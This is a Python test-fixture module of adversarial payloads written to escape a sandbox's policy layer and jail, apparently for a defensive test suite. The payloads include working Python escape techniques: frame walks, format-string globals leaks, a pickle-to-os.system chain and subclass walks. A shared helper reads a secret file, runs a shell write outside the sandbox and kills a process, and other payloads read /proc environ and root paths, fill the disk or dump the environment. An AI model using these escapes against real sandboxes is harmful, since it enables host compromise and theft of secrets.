"""Adversarial payloads: block sources written to get past the policy layer, the jail, or both.

Unlike ``payloads.py`` (the classic escapes), these aim at the policy's
weak spots: standard-library functions that read attributes named by
strings or evaluate strings, frames reached through generators, coroutines
and tracebacks, format strings, class machinery, names the static check
cannot follow, and the harms issue 16 listed for a weak jail. Each defines
``execute(inputs, context)``; the inputs name the canaries of
``conftest.Canaries``: ``secret`` (a 0600 file outside the temp dir),
``target`` and ``host_tmp`` (paths outside the sandbox that must never
appear), ``port`` (a loopback listener), ``env`` (a variable only the host
process holds), ``marker`` (an argv a spawned process would carry),
``canary_pid`` (a host process that must survive), ``host_pid`` (the test
process) and ``disk_mb`` (how much a block may put on a disk).

Every payload returns what it got in ``got``; the canaries decide whether
that is harm.
"""

from __future__ import annotations

# What a payload does once it holds a real module ``os``: read the secret,
# write outside and kill the canary.
_HARM = """
def harm(mod, inputs):
    got = []
    try:
        fd = mod.open(inputs["secret"], mod.O_RDONLY)
        got.append(mod.read(fd, 200).decode())
    except Exception as exc:
        got.append(repr(exc))
    try:
        mod.system("echo escaped > " + inputs["host_tmp"])
    except Exception as exc:
        got.append(repr(exc))
    try:
        mod.kill(inputs["canary_pid"], 9)
    except Exception as exc:
        got.append(repr(exc))
    return got
"""

PAYLOADS: dict[str, str] = {
    # --- the two bypasses of issue 16, and variants ------------------------
    "update_wrapper merges json's globals": """
import functools, json
def execute(inputs, context):
    def w():
        pass
    functools.update_wrapper(w, json.dumps, assigned=(), updated=("__globals__",))
    os = codecs.sys.modules["os"]
    return {"got": harm(os, inputs)}
""",
    "update_wrapper through a renamed module": """
import functools, json
def execute(inputs, context):
    tools = [functools][0]
    def w():
        pass
    tools.update_wrapper(w, json.loads, assigned=(), updated=("__globals__",))
    return {"got": harm(codecs.sys.modules["os"], inputs)}
""",
    "from functools import wraps": """
from functools import wraps
import json
def execute(inputs, context):
    def w():
        pass
    wraps(json.dumps, assigned=(), updated=("__globals__",))(w)
    return {"got": harm(codecs.sys.modules["os"], inputs)}
""",
    "update_wrapper through getattr of a list item": """
import functools, json
def execute(inputs, context):
    pick = getattr
    fn = pick([functools][0], "update_wrapper")
    def w():
        pass
    fn(w, json.dumps, assigned=(), updated=("__globals__",))
    return {"got": harm(codecs.sys.modules["os"], inputs)}
""",
    "singledispatch evaluates a string annotation": """
import functools
WALK = ("[c for c in ().__class__.__base__.__subclasses__()"
        " if c.__name__ == 'catch_warnings'][0]()._module.sys.modules['os']")
def execute(inputs, context):
    @functools.singledispatch
    def f(x):
        return None
    def g(x: WALK):
        return None
    f.register(g)
    found = [k for k in f.registry if k is not object][0]
    return {"got": harm(found, inputs)}
""",
    "singledispatch through a renamed module": """
import functools
def execute(inputs, context):
    tools = {"f": functools}["f"]
    box = tools.singledispatch(lambda x: None)
    def g(x: "__import__('os')"):
        return None
    box.register(g)
    return {"got": harm([k for k in box.registry][-1], inputs)}
""",
    "typing.get_type_hints on a string annotation": """
import typing
def execute(inputs, context):
    def g(x: "__import__('os')"):
        pass
    return {"got": harm(typing.get_type_hints(g)["x"], inputs)}
""",
    "dataclass field annotation evaluation": """
import dataclasses
def execute(inputs, context):
    spec = dataclasses.make_dataclass("P", [("x", "__import__('os')")])
    return {"got": harm(__import__("os"), inputs), "spec": str(spec)}
""",
    "enum functional API": """
import enum
def execute(inputs, context):
    E = enum.Enum("E", "a b", module="os")
    return {"got": harm(__import__(E.__module__), inputs)}
""",
    "namedtuple field injection": """
import collections
def execute(inputs, context):
    P = collections.namedtuple("P", ["a"], defaults=[1], module="os")
    return {"got": harm(__import__(P.__module__), inputs)}
""",
    "namedtuple through a renamed module": """
import collections
def execute(inputs, context):
    col = [collections][0]
    P = col.namedtuple("P", "a b")
    return {"got": str(P(1, 2))}
""",
    # --- modules held directly ------------------------------------------------
    "json.codecs opens the secret": """
import json
def execute(inputs, context):
    return {"got": json.codecs.open(inputs["secret"]).read()}
""",
    "a renamed json reaches codecs": """
import json
def execute(inputs, context):
    j = [json][0]
    return {"got": j.codecs.open(inputs["secret"]).read()}
""",
    "statistics.sys.modules": """
import statistics
def execute(inputs, context):
    s = (statistics,)[0]
    return {"got": harm(s.sys.modules["os"], inputs)}
""",
    "os.system through a renamed os": """
import os
def execute(inputs, context):
    o = [os][0]
    return {"got": harm(o, inputs)}
""",
    "pickle reduce to os.system": """
import pickle
def execute(inputs, context):
    cmd = ("cat " + inputs["secret"] + " > " + inputs["host_tmp"]).encode()
    pickle.loads(b"cos\\nsystem\\n(S'" + cmd + b"'\\ntR.")
    return {"got": "loaded"}
""",
    "marshal builds a function": """
import marshal, types
def execute(inputs, context):
    code = compile("import os; os.system('id > " + inputs["host_tmp"] + "')", "x", "exec")
    exec(marshal.loads(marshal.dumps(code)))
    return {"got": "ran"}
""",
    # --- frames, coroutines, tracebacks ---------------------------------------
    "generator frame up to the worker": """
def execute(inputs, context):
    box = []
    def gen():
        frame = getattr(box[0], "gi_frame")
        yield frame
    box.append(gen())
    frame = next(box[0])
    while frame is not None:
        scope = getattr(frame, "f_globals")
        if "os" in scope:
            return {"got": harm(scope["os"], inputs)}
        frame = getattr(frame, "f_back")
    return {"got": None}
""",
    "coroutine frame and send": """
async def helper():
    return 1
def execute(inputs, context):
    co = helper()
    frame = getattr(co, "cr_frame")
    co.send(None)
    return {"got": str(getattr(frame, "f_globals"))}
""",
    "traceback frame walk": """
def execute(inputs, context):
    try:
        1 / 0
    except ZeroDivisionError as exc:
        names = {"t": "__traceback__"}
        pick = getattr
        tb = pick(exc, names["t"])
    frame = pick(tb, "tb_frame")
    while frame is not None:
        if "os" in pick(frame, "f_globals"):
            return {"got": harm(pick(frame, "f_globals")["os"], inputs)}
        frame = pick(frame, "f_back")
    return {"got": None}
""",
    "exception obj leaks an internal object": """
import json, statistics
def execute(inputs, context):
    leaks = []
    pick = getattr
    for attempt in (lambda: json.loads("{}", object_hook=len).keys,
                    lambda: statistics.NormalDist.nothing):
        try:
            attempt()
        except AttributeError as exc:
            leaks.append(exc.obj)
    for leak in leaks:
        for name in ("sys", "os", "codecs"):
            try:
                return {"got": harm(pick(leak, name), inputs)}
            except AttributeError:
                continue
    return {"got": [str(x) for x in leaks]}
""",
    # --- format strings -------------------------------------------------------
    "str.format through a getattr alias": """
def execute(inputs, context):
    pick = getattr
    fmt = pick("{0.__globals__}", "format")
    return {"got": fmt(execute)}
""",
    "format_map through a getattr alias": """
def execute(inputs, context):
    pick = getattr
    fmt = pick("{f.__globals__[__builtins__]}", "format_map")
    return {"got": fmt({"f": execute})}
""",
    "format() builtin with a field spec": """
import datetime
def execute(inputs, context):
    out = []
    cases = ((execute, "{0.__globals__}"), (datetime.datetime.now(), "%Y {0.__class__}"))
    for value, spec in cases:
        try:
            out.append(format(value, spec))
        except Exception as exc:
            out.append(repr(exc))
    return {"got": out}
""",
    "str subclass format": """
class S(str):
    pass
def execute(inputs, context):
    pick = getattr
    return {"got": pick(S("{0.__globals__}"), "format")(execute)}
""",
    # --- library hooks ----------------------------------------------------------
    "re.sub callback walks the match": """
import re
def execute(inputs, context):
    pick = getattr
    seen = []
    def repl(match):
        pattern = pick(match, "re")
        seen.append(str(pick(pattern, "__class__")))
        return ""
    re.sub("a", repl, "a")
    return {"got": seen}
""",
    "json object_hook walks the decoder": """
import json
def execute(inputs, context):
    pick = getattr
    def hook(d):
        return pick(pick(d, "__class__"), "__subclasses__")()
    return {"got": str(json.loads('{"a": 1}', object_hook=hook))}
""",
    "async generator asend and frame": """
async def agen():
    yield 1
async def execute(inputs, context):
    gen = agen()
    pick = getattr
    frame = pick(gen, "ag_frame")
    await pick(gen, "asend")(None)
    return {"got": str(pick(frame, "f_globals"))}
""",
    # --- class machinery --------------------------------------------------------
    "metaclass keyword": """
class Meta(type):
    pass
class A(metaclass=Meta):
    pass
def execute(inputs, context):
    return {"got": harm(A.__class__.__subclasses__, inputs)}
""",
    "__init_subclass__ and __set_name__ hooks": """
class Base:
    def __init_subclass__(cls, **kw):
        cls.leak = kw
    def __set_name__(self, owner, name):
        self.owner = owner
class Child(Base, leak=open):
    field = Base()
def execute(inputs, context):
    return {"got": Child.leak["leak"](inputs["secret"]).read()}
""",
    "class keyword arguments to a base": """
import collections
class Box(collections.Counter, opener=1):
    pass
def execute(inputs, context):
    return {"got": str(Box())}
""",
    "patch an allowed class": """
import collections
def execute(inputs, context):
    counter = collections.Counter
    counter.most_common = lambda self, n=None: "patched"
    return {"got": collections.Counter("a").most_common()}
""",
    "lru_cache __wrapped__ through an alias": """
import functools, json
def execute(inputs, context):
    pick = getattr
    cached = functools.lru_cache()(json.dumps)
    inner = pick(cached, "__wrapped__")
    return {"got": str(pick(inner, "__globals__")["codecs"])}
""",
    "dict view mapping of a module": """
import json
def execute(inputs, context):
    pick = getattr
    scope = pick(json, "__dict__")
    return {"got": str(scope.keys().mapping["codecs"])}
""",
    "fullwidth exec identifier": """
def execute(inputs, context):
    command = "cat " + inputs["secret"] + " > " + inputs["host_tmp"]
    \uff45\uff58\uff45\uff43("import os; os.system(" + repr(command) + ")")
    return {"got": "ran"}
""",
    "mro walk to object subclasses": """
def execute(inputs, context):
    pick = getattr
    base = pick(int, "mro")()[-1]
    for cls in pick(base, "__subclasses__")():
        if str(cls).endswith("catch_warnings'>"):
            module = pick(cls(), "_module")
            return {"got": harm(pick(module, "sys").modules["os"], inputs)}
    return {"got": None}
""",
    "httpx without network": """
import httpx
def execute(inputs, context):
    r = httpx.get("http://127.0.0.1:" + str(inputs["port"]) + "/", timeout=1)
    return {"got": r.text}
""",
    # --- what a weak jail let through in issue 16 -----------------------------
    "write to the host's /tmp": """
def execute(inputs, context):
    with open(inputs["host_tmp"], "w") as f:
        f.write("escaped")
    return {"got": "written"}
""",
    "asyncio connects to the loopback listener": """
import asyncio
async def execute(inputs, context):
    reader, writer = await asyncio.open_connection("127.0.0.1", inputs["port"])
    writer.write(b"escaped")
    await writer.drain()
    writer.close()
    return {"got": "connected"}
""",
    "kill the host canary process": """
import os, signal
def execute(inputs, context):
    out = []
    for pid in (inputs["canary_pid"],):
        try:
            os.kill(pid, signal.SIGKILL)
            out.append("killed")
        except Exception as exc:
            out.append(type(exc).__name__)
    return {"got": out}
""",
    "read the parent's environment through /proc": """
import os
def execute(inputs, context):
    found = []
    for pid in {os.getppid(), inputs["host_pid"], 1}:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                found.append(f.read().decode(errors="replace"))
        except Exception as exc:
            found.append(type(exc).__name__)
    return {"got": found}
""",
    "read the 0600 secret through /proc/<pid>/root": """
def execute(inputs, context):
    out = []
    for pid in (inputs["host_pid"], 1):
        try:
            out.append(open(f"/proc/{pid}/root" + inputs["secret"]).read())
        except Exception as exc:
            out.append(type(exc).__name__)
    return {"got": out}
""",
    "fill the disk": """
import os
def execute(inputs, context):
    written = 0
    chunk = b"0" * 1_048_576
    try:
        for i in range(inputs["disk_mb"] // 2):
            with open(f"fill{i}.bin", "wb") as f:
                for _ in range(4):
                    f.write(chunk)
                    written += len(chunk)
    except OSError as exc:
        return {"written_bytes": written, "got": type(exc).__name__}
    return {"written_bytes": written, "got": "done"}
""",
    "environment dump through os.environ": """
import os
def execute(inputs, context):
    return {"got": dict(os.environ), "direct": os.getenv(inputs["env"])}
""",
}
"""Payload name -> block source (``_HARM`` is prepended to each)."""

PAYLOADS = {name: _HARM + source for name, source in PAYLOADS.items()}


STATIC_BLIND = frozenset(
    {
        "update_wrapper through a renamed module",
        "update_wrapper through getattr of a list item",
        "singledispatch through a renamed module",
        "namedtuple through a renamed module",
        "a renamed json reaches codecs",
        "statistics.sys.modules",
        "generator frame up to the worker",
        "coroutine frame and send",
        "traceback frame walk",
        "exception obj leaks an internal object",
        "str.format through a getattr alias",
        "format_map through a getattr alias",
        "format() builtin with a field spec",
        "lru_cache __wrapped__ through an alias",
        "dict view mapping of a module",
        "mro walk to object subclasses",
        "patch an allowed class",
        "os.system through a renamed os",
        "str subclass format",
        "re.sub callback walks the match",
        "json object_hook walks the decoder",
        "async generator asend and frame",
        "environment dump through os.environ",
    }
)
"""Payloads whose danger hides behind a name the compile-time check cannot follow.

The policy compiles them; its run-time guards must stop them (or, for the
environment dump, the jail must have left nothing to find).
"""
